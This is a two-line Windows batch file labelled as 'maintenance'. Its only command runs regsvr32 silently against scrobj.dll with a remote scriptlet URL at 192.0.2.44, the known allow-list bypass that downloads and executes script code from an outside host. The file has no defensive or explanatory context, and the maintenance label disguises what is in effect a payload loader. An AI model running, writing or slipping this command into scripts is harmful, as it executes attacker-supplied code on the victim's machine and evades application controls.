REM maintenance 7438 v0
regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
